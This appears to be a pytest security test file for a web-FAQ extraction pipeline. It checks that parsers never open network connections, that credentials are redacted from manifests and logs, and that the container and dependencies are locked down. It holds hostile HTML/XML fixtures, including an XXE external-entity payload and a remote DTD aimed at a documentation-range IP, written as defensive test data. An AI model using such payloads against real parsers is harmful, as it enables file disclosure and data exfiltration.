"""Security ground rules: no credentials in manifests, parsers never touch the network, the
image runs as non-root, dependencies are pinned."""

from __future__ import annotations

import json
import re
import socket
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from conftest import REPO, SAMPLE
from webfaq.config import Config
from webfaq.extract.pipeline import QAProcessor
from webfaq.extract.warc_reader import HtmlPage

HOSTILE_REMOTE = [
    b'<!DOCTYPE html SYSTEM "http://198.51.100.7/evil.dtd"><html><body itemscope itemtype="https://schema.org/FAQPage">'
    b'<div itemprop="mainEntity" itemscope itemtype="https://schema.org/Question"><span itemprop="name">Q?</span></div></body></html>',
    b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY ext SYSTEM "http://198.51.100.7/secret">]>'
    b'<html xmlns="http://www.w3.org/1999/xhtml" vocab="https://schema.org/"><body typeof="FAQPage">&ext;</body></html>',
    b'<html><script type="application/ld+json">{"@context": "http://198.51.100.7/remote-context.jsonld",'
    b'"@type": "FAQPage", "mainEntity": {"@type": "Question", "name": "Does this fetch the context?",'
    b'"acceptedAnswer": {"@type": "Answer", "text": "No: contexts are never fetched, the page is data."}}}</script></html>',
]


def test_parsers_never_open_a_connection(monkeypatch):
    attempts = []

    def refuse(self, address):
        attempts.append(address)
        raise OSError("network disabled in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: refuse(None, a))
    cfg = Config()
    cfg.extract.sandbox = False  # in-process, so the patch applies to the parsers themselves
    from webfaq.counters import Counters

    counters = Counters()
    records = []
    for i, payload in enumerate(HOSTILE_REMOTE):
        records += QAProcessor(cfg).page_records(HtmlPage(f"https://a.example/{i}", None, payload, "text/html"),
                                                 "C", "f", counters)
    assert attempts == []
    assert [r["question"] for r in records] == ["Does this fetch the context?"]


SECRETS = ("webfaquser", "S3cretPw", "AKIDSECRET", "SIGSECRET")
CREDENTIALED_BASE = "http://webfaquser:S3cretPw@127.0.0.1:9/"
SIGNED = "https://127.0.0.1:9/crawl-data/y.warc.gz?X-Amz-Credential=AKIDSECRET1&X-Amz-Signature=SIGSECRET1"


@pytest.mark.spark
def test_secrets_never_leave_the_process(spark, tmp_path, capsys):
    """A credentialed --input-base-url and presigned URLs (one unreachable, one a glob that
    matches nothing): no manifest, report, console line or error message holds a credential. A
    listing entry resolved against the credentialed base is refused before the run, naming the
    entry without its user:password."""
    from webfaq.cli import main as cli_main
    from webfaq_jobs.extract import ExtractJob

    lake, listing = tmp_path / "lake", tmp_path / "warc.paths"
    listing.write_text("crawl-data/x.warc.gz\n")  # resolved against the credentialed base URL
    proc = subprocess.run([str(Path(sys.executable).parent / "webfaq"), "extract", str(SAMPLE / "sample-0001.warc.gz"),
                           SIGNED, "--input-base-url", CREDENTIALED_BASE, "--lake", str(lake),
                           "--crawl-id", "C", "--job-failure-budget", "1", "--retry-max-attempts", "1"],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    nothing = str(tmp_path / "none-*.warc.gz") + "?X-Amz-Credential=AKIDSECRET2&X-Amz-Signature=SIGSECRET2"
    assert ExtractJob.main([nothing, "--input-base-url", CREDENTIALED_BASE, "--lake", str(lake), "--crawl-id", "C"]) == 2
    assert ExtractJob.main([str(listing), "--input-base-url", CREDENTIALED_BASE, "--lake", str(lake)]) == 2
    assert cli_main(["report", "--lake", str(lake)]) == 0
    console = capsys.readouterr()

    (complete,) = [json.loads(p.read_text()) for p in (lake / "_runs").glob("*.json")]  # usage errors write none
    assert complete["status"] == "complete"
    assert complete["config"]["input"]["base_url"] == "http://127.0.0.1:9/"
    statuses = {f["file_uri"]: f["file_status"] for f in complete["files"]}
    assert statuses["https://127.0.0.1:9/crawl-data/y.warc.gz"] == "failed"
    assert complete["counters"]["files.ok"] == 1 and complete["counters"]["qa.kept"] > 0  # the good file's rows stay
    refused, listed = [line for line in console.err.splitlines() if line.startswith("webfaq extract: ")]
    assert refused.startswith("webfaq extract: error: input ") and "X-Amz-Signature=REDACTED" in refused
    assert listed == (f"webfaq extract: error: manifest {listing} line 1: http://127.0.0.1:9/crawl-data/x.warc.gz: "
                      "user:password in a URL is not supported (use a signed URL, or --s3-profile for s3://)")
    texts = {"console of the complete run": proc.stdout + proc.stderr, "console of the failed run": console.out + console.err}
    texts.update({str(p): p.read_text() for p in lake.rglob("*") if p.suffix in (".json", ".html")})
    manifests = [p for p in texts if p.endswith(".json") and Path(p).parent.name == "_runs"]
    assert any(p.endswith(".html") for p in texts) and len(manifests) == 1  # lease records are checked too
    for where, text in texts.items():
        assert not [s for s in SECRETS if s in text], where


def test_redaction_covers_urls_and_credential_parameters_anywhere():
    from webfaq.redaction import redact_text, redact_tree

    assert redact_text("error at https://u:p@h.example:8/a?X-Amz-Signature=s&b=1 now") == "error at https://h.example:8/a now"
    assert redact_text("/data/x-*.warc.gz?sig=abc&se=2030") == "/data/x-*.warc.gz?sig=REDACTED&se=2030"
    assert redact_text("Credential=AKID/x, SignedHeaders=host, Signature=ff") == \
        "Credential=REDACTED, SignedHeaders=host, Signature=REDACTED"
    assert redact_text("aws_secret_access_key=K access_token=T crawl=C language=eng") == \
        "aws_secret_access_key=REDACTED access_token=REDACTED crawl=C language=eng"
    assert redact_text("s3://commoncrawl/crawl-data/CC-MAIN-2024-22/x.warc.gz") == "s3://commoncrawl/crawl-data/CC-MAIN-2024-22/x.warc.gz"
    tree = {"input": {"base_url": "s3a://KEY:SECRET@bucket/"}, "argv": ["--x", "https://h/?token=t"], "n": 3}
    assert redact_tree(tree) == {"input": {"base_url": "s3a://bucket/"}, "argv": ["--x", "https://h/"], "n": 3}
    assert redact_text(redact_text("p?sig=1")) == redact_text("p?sig=1")  # idempotent


def test_container_runs_as_non_root_with_pinned_base_and_constraints():
    dockerfile = (REPO / "Dockerfile").read_text()
    users = re.findall(r"^USER\s+(\S+)", dockerfile, re.M)
    assert users and users[-1] not in ("root", "0")
    assert re.search(r"^FROM\s+\S+:\d+\.\d+\.\d+", dockerfile, re.M)
    setup = (REPO / "scripts" / "setup.sh").read_text()
    # the image installs from the pinned file (a copy, less pyspark/py4j when Spark is provided)
    assert "-c constraints-image.txt" in dockerfile and "cp constraints.txt constraints-image.txt" in dockerfile
    # the set-up installs with the pinned file (or, for WEBFAQ_SPARK4, a copy that only swaps pyspark)
    assert "CONSTRAINTS=constraints.txt" in setup and '-c "$CONSTRAINTS"' in setup
    assert """grep -v '^pyspark==' constraints.txt""" in setup


def test_every_dependency_is_pinned():
    pinned = {line.split("==")[0].lower().replace("_", "-")
              for line in (REPO / "constraints.txt").read_text().splitlines() if "==" in line}
    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    deps = project["dependencies"] + project["optional-dependencies"]["test"]
    names = {re.split(r"[<>=\[ ;]", d, maxsplit=1)[0].lower().replace("_", "-") for d in deps}
    assert names - pinned == set()
